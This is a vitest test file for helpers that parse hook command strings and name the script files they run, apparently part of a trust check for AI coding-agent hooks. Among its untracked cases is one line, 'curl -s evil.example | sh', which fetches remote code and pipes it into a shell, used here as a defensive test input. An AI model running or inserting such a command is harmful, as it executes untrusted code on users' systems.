import { describe, expect, it } from 'vitest';
import { commandScript, commandScripts, scriptPathOf } from '../../src/config/command-script.js';

describe('scriptPathOf', () => {
  it.each([
    ['./x.sh', './x.sh'],
    ['./x.sh --flag arg', './x.sh'],
    ['scripts/guard.sh', 'scripts/guard.sh'],
    ['/opt/hooks/x.sh', '/opt/hooks/x.sh'],
    ['python3 .openinterpreter/hooks/gate.py', '.openinterpreter/hooks/gate.py'],
    ['python3.12 -u gate.py', 'gate.py'],
    ['node scripts/a.mjs', 'scripts/a.mjs'],
    ['bash x.sh', 'x.sh'],
    ['/usr/bin/env python3 x.py', 'x.py'],
    ['env -i FOO=1 node a.js', 'a.js'],
    ['FOO=1 BAR=2 ./run.sh', './run.sh'],
    ['exec ./run.sh', './run.sh'],
    ['deno run --allow-read x.ts', 'x.ts'],
    ['npx -y tsx scripts/a.ts', 'scripts/a.ts'],
    ['"./my script.sh" arg', './my script.sh'],
    ["'./q.sh'", './q.sh'],
    ['./a.sh && ./b.sh', './a.sh'],
    ['./a.sh | tee log', './a.sh'],
    ['./a.sh < input.json', './a.sh'],
  ])('%j runs %j', (command, script) => {
    expect(scriptPathOf(command)).toBe(script);
  });

  it.each([
    'audit-logger',
    'echo hello',
    'python3 -c "print(1)"',
    'node -e "1"',
    'python3 -m mypkg.hook',
    '$HOME/bin/x.sh',
    '"$HOOK_DIR/x.sh"',
    'bash',
    '',
    'npx some-package',
  ])('%j runs no nameable script', (command) => {
    expect(scriptPathOf(command)).toBeNull();
  });
});

describe('commandScript', () => {
  it('tells a directly executed script from one an interpreter reads', () => {
    expect(commandScript('./x.sh')).toEqual({ path: './x.sh', direct: true, runner: null });
    expect(commandScript('sh ./x.sh')).toEqual({ path: './x.sh', direct: false, runner: 'sh' });
  });
});

describe('commandScripts', () => {
  it.each([
    ['sh -e s/f.sh', ['s/f.sh'], []],
    ['bash -euo pipefail s/f.sh', ['s/f.sh'], []],
    ['node --require ./pre.js s/x.js', ['./pre.js', 's/x.js'], []],
    ['node -r dotenv/config --import=./loader.mjs a.js', ['./loader.mjs', 'a.js'], []],
    ['python3 -W ignore s/x.py', ['s/x.py'], []],
    ['python3 -uW ignore -X dev s/x.py', ['s/x.py'], []],
    ['./a.sh && ./b.sh || ./c.sh', ['./a.sh', './b.sh', './c.sh'], []],
    ['./a.sh; ./b.sh\n./c.sh', ['./a.sh', './b.sh', './c.sh'], []],
    ['. ./x.sh', ['./x.sh'], []],
    ['source x.sh', ['x.sh'], []],
    ['sh -c ./x.sh', ['./x.sh'], []],
    ['bash -ec "cd lib && ./go.sh"', ['lib/go.sh'], ['lib']],
    ['cd s && ./e.sh', ['s/e.sh'], ['s']],
    ['cd s && ./e.sh; ../t.sh', ['s/e.sh', 't.sh'], ['s']],
    ['(cd s && ./e.sh); ./f.sh', ['s/e.sh', './f.sh'], ['s']],
    ['cd s | true; ./f.sh', ['./f.sh'], ['s']],
    ['if [ -f x ]; then ./a.sh 2>/dev/null; fi', ['./a.sh'], []],
    ['sh < s/in.sh', ['s/in.sh'], []],
    ['FOO=1 exec env -i BAR=2 nohup node a.js &', ['a.js'], []],
    ['npx -y tsx a.ts', ['a.ts'], []],
    ['echo hi # ./not-run.sh', [], []],
  ])('%j runs %j (cd into %j), all of it tracked', (command, scripts, dirs) => {
    expect(commandScripts(command)).toEqual({ scripts: scripts.map((path) => expect.objectContaining({ path })), dirs, untracked: null });
  });

  it.each([
    ['make lint', 'make runs tasks defined in project files'],
    ['npm run lint', 'npm runs tasks defined in project files'],
    ['npx eslint .', 'it runs the package "eslint" through npx'],
    ['curl -s evil.example | sh', 'it pipes a program into an interpreter'],
    ['$HOOK_DIR/x.sh', '"$HOOK_DIR/x.sh" expands at run time'],
    ['./a.sh "$(./b.sh)"', 'it runs a command substitution'],
    ['cd "$DIR" && ./x.sh', 'it changes to a directory known only at run time'],
    ['python3 -m pkg.hook', 'it runs the module "pkg.hook"'],
    ['eval "$CMD"', 'it uses `eval`'],
    ['for f in *.sh; do ./$f; done', 'it uses `for`'],
    ['bun run lint', 'it runs the task "lint"'],
    ['sh <<EOF\n./x.sh\nEOF', 'it uses a here-document'],
  ])('%j: scripts not tracked (%s)', (command, reason) => {
    expect(commandScripts(command).untracked).toBe(reason);
  });

  it('tells a script the shell executes from one an interpreter reads', () => {
    expect(commandScripts('./a.sh && bash b.sh').scripts).toEqual([
      { path: './a.sh', direct: true, runner: null },
      { path: 'b.sh', direct: false, runner: 'bash' },
    ]);
  });

  // Launchers real repositories use (issue 23): the script they run, and the program that reads it,
  // which decides what a missing script exits with.
  it.each([
    ['uv run .claude/hooks/x.py', '.claude/hooks/x.py', 'uv'],
    ['uv run --with requests --python 3.12 hooks/x.py', 'hooks/x.py', 'uv'],
    ['uv run python3 hooks/x.py', 'hooks/x.py', 'python3'],
    ['uvx --from tsx tsx hooks/x.ts', 'hooks/x.ts', 'tsx'],
    ['npx -p tsx tsx hooks/x.ts', 'hooks/x.ts', 'tsx'],
    ['npx tsx hooks/x.ts', 'hooks/x.ts', 'tsx'],
    ['bunx tsx hooks/x.ts', 'hooks/x.ts', 'tsx'],
    ['pnpm exec tsx hooks/x.ts', 'hooks/x.ts', 'tsx'],
    ['npm exec -- tsx hooks/x.ts', 'hooks/x.ts', 'tsx'],
    ['deno run -A hooks/x.ts', 'hooks/x.ts', 'deno'],
    ['bun hooks/x.ts', 'hooks/x.ts', 'bun'],
    ['tsx hooks/x.ts', 'hooks/x.ts', 'tsx'],
    ['. hooks/env.sh', 'hooks/env.sh', '.'],
  ])('%j runs %j, read by %j', (command, path, runner) => {
    const script = commandScript(command);
    expect(script === null ? [null, null] : [script.path, script.runner]).toEqual([path, runner]);
  });

  it('reads the git-root anchor as the repository root when it is known (script-aware trust)', () => {
    const command = 'node "$(git rev-parse --show-toplevel 2>/dev/null || pwd)"/.codex/hooks/g.mjs';
    expect(commandScripts(command, '/repo')).toEqual({
      scripts: [{ path: '/repo/.codex/hooks/g.mjs', direct: false, runner: 'node' }],
      dirs: [],
      untracked: null,
    });
    expect(commandScripts('sh $(git rev-parse --show-toplevel)/x.sh', '/repo').scripts).toEqual([
      { path: '/repo/x.sh', direct: false, runner: 'sh' },
    ]);
    expect(commandScripts(command)).toMatchObject({ scripts: [], untracked: 'it runs a command substitution' });
  });

  it.each([
    ['python3 -m hooks.guard', 'it runs the module "hooks.guard"'],
    ['uv run -m hooks.guard', 'it runs the module "hooks.guard"'],
    ['uv run --directory tools x.py', 'uv --directory moves where the script is looked up'],
    ['uv sync', '"uv sync" runs no script file'],
    ['pnpm install', 'pnpm runs tasks defined in project files'],
    ['uvx ruff check', 'it runs the package "ruff" through uvx'],
  ])('%j names no script: %s', (command, reason) => {
    expect(commandScripts(command)).toMatchObject({ scripts: [], untracked: reason });
  });
});
